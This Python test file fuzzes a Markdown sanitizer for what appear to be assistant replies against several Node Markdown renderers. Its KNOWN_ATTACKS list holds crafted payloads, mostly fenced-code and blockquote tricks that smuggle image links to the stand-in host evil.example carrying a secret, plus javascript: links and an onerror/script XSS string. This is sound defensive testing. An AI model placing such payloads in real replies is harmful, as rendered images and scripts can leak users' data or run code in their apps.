"""Hostile replies as apps show them: sanitized, then rendered by what apps render Markdown with, from npm, on Node."""

from __future__ import annotations

import json
import random
import shutil
import string
import subprocess
import sys
import unicodedata
from collections.abc import Iterable, Mapping
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import pytest

from shared.answering.pieces import split
from shared.markdown.sanitize import Sanitizer, sanitize
from tests.markdown.samples import FRAGMENTS, KNOWN, MAILBOX, TEXTS
from tests.servers.npm import installed

HERE = Path(__file__).parent
SHOWS = frozenset(
    (
        *(
            "p",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "a",
            "em",
            "strong",
            "code",
            "pre",
            "ul",
            "ol",
            "li",
            "blockquote",
        ),
        *("hr", "br", "table", "thead", "tbody", "tr", "th", "td", "del", "s", "input"),
    )
)
"""Elements that Markdown makes and that do nothing."""
SENTENCE_END = ".,;:!?'*_~)&"
EVIL = "//evil.example/?q=secret"
KNOWN_ATTACKS = (
    f"```![x](https:{EVIL})",
    f"Yes.\n\n~~~html\n![x](https:{EVIL})",
    f"```\n```a ![x](https:{EVIL})\n```\n",
    f"````\n`````\n` <img src={EVIL}>`",
    f"```\n```\n\n![x](https:{EVIL})\n\n```\n<img src={EVIL}>\n```\n",
    f"```\na\n     ```\n```\n<img src={EVIL}>\n```\n",
    f"```\na\r```\r<img src={EVIL}>\r\n```\n",
    f"> ```\n> a\n<img src={EVIL}>\n> ```\n",
    f"> ```\n> a\n>```\n> <img src={EVIL}>\n> ```\n",
    f"- | a |\n> ```\n> <img src={EVIL}>\n> ```\n>```\n> ```\n===\n",
    f"> - a\n> ```\n> <img src={EVIL}>\n> ```\n<img src={EVIL}>\n",
    f"a\n> | b |\n> |---|\n> ```\n> ![x](https:{EVIL})\n> ```\n![x](https:{EVIL})\n",
    f"1. a\n   > b\n> ```\n> ![x](https:{EVIL})\n> ```\n",
    f"xhttps:{EVIL} 1www.evil.example {EVIL} who@evil.example",
    "[a] (javascript:alert(1)) [a](javascript:alert(1))",
    f"\\\\`<img src={EVIL}>` ~`<img src={EVIL}>`",
    f"[a]: https:{EVIL}\n\n[a] ![a]",
    "<img src=x onerror=alert(1)><script>alert(1)</script><a href='javascript:x'>",
)
SECRET = "secret"


class _Active(HTMLParser):
    """Collects what acts: elements, event handlers, addresses that the texts do not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [] if tag in SHOWS else [tag]
        for name, value in attrs:
            address = (value or "").rstrip(SENTENCE_END)
            if address.startswith("mailto:"):  # signs before a mailbox carry no text out
                address = unquote(address).removeprefix("mailto:").lstrip(string.punctuation)
            points = name in ("href", "src") and not any(address in text for text in TEXTS)
            self.found += [f"{name}={value}"] if name.startswith("on") or points else []


def active_in(html: str) -> list[str]:
    parser = _Active()
    parser.feed(html)
    return parser.found


def rendered(texts: Iterable[str]) -> Mapping[str, Mapping[str, str]]:
    """Renderer -> text -> page. Many replies are alike once they are sanitized: each text is rendered once."""
    distinct = list(dict.fromkeys(texts))
    packages = installed(HERE / "package.json")
    script = shutil.copy(HERE / "render.mjs", packages)
    completed = subprocess.run(
        ["node", script],
        input=json.dumps(distinct),
        capture_output=True,
        text=True,
        timeout=170,  # a busy machine takes one minute
        check=False,
    )
    assert completed.returncode == 0, completed.stderr
    pages_by_renderer: Mapping[str, list[str]] = json.loads(completed.stdout)
    return {
        renderer: dict(zip(distinct, pages, strict=True))
        for renderer, pages in pages_by_renderer.items()
    }


def in_pieces(text: str) -> str:
    """Sanitized as a stream sends it."""
    sanitizer = Sanitizer(TEXTS)
    return "".join(sanitizer.feed(piece.whole) for piece in split(text))


@pytest.mark.parametrize("many", [1000, pytest.param(4000, marks=pytest.mark.nightly)])
def test_no_renderer_finds_anything_active_in_a_hostile_reply(many: int) -> None:
    draw = random.Random(20260318)  # noqa: S311 - every run reads the same
    replies = [
        *KNOWN_ATTACKS,
        *("".join(draw.choices(FRAGMENTS, k=draw.randint(1, 14))) for _ in range(many)),
    ]
    texts = [
        shown_text
        for reply in replies
        for shown_text in (
            sanitize(reply, TEXTS),
            in_pieces(reply),
        )
    ]
    for renderer, pages in rendered(texts).items():
        acting = [(text, actions) for text, page in pages.items() if (actions := active_in(page))]
        assert acting == [], renderer


def test_each_renderer_would_act_and_shows_the_address_that_the_notes_hold() -> None:
    attack = KNOWN_ATTACKS[-1]
    link = f"See [the page]({KNOWN})."
    for renderer, pages in rendered([attack, link]).items():
        assert active_in(pages[attack]), renderer
        assert f'href="{KNOWN}"' in pages[link], renderer


def _parting() -> tuple[str, ...]:
    """Returns white space, controls and what is not seen, all of Unicode's: renderers differ in which end an address."""
    return tuple(
        char
        for char in map(chr, range(sys.maxunicode + 1))
        if unicodedata.category(char) in ("Cc", "Cf", "Zs", "Zl", "Zp") or char.isspace()
    )


def test_no_white_space_or_control_character_carries_text_out_behind_an_address() -> None:
    parting = _parting()
    replies = [f"See {KNOWN}{char}{SECRET} now." for char in parting]
    replies += [f"See {KNOWN}.{char}{SECRET} now." for char in parting]
    replies += [f"See [the page]({KNOWN}{char}{SECRET}) now." for char in parting]
    replies += [f"See [the page]({KNOWN}){char}({SECRET}) now." for char in parting]
    replies += [f"Write to {MAILBOX}{char}{SECRET}.example now." for char in parting]
    replies += [f"Write to {MAILBOX}{char}{SECRET}.example now." for char in string.printable]
    replies += [f"Write to {SECRET}{char}{MAILBOX} now." for char in (*parting, *string.printable)]
    texts = [sanitize(reply, TEXTS) for reply in replies]
    pieces = [f"See {KNOWN}", *(f"{char}{SECRET}" for char in parting)]
    texts += [_fed(pieces[0], piece) for piece in pieces[1:]]
    for renderer, pages in rendered(texts).items():
        carried = [(text, actions) for text, page in pages.items() if (actions := active_in(page))]
        assert carried == [], renderer


def _fed(*pieces: str) -> str:
    sanitizer = Sanitizer(TEXTS)
    return "".join(sanitizer.feed(piece) for piece in pieces)
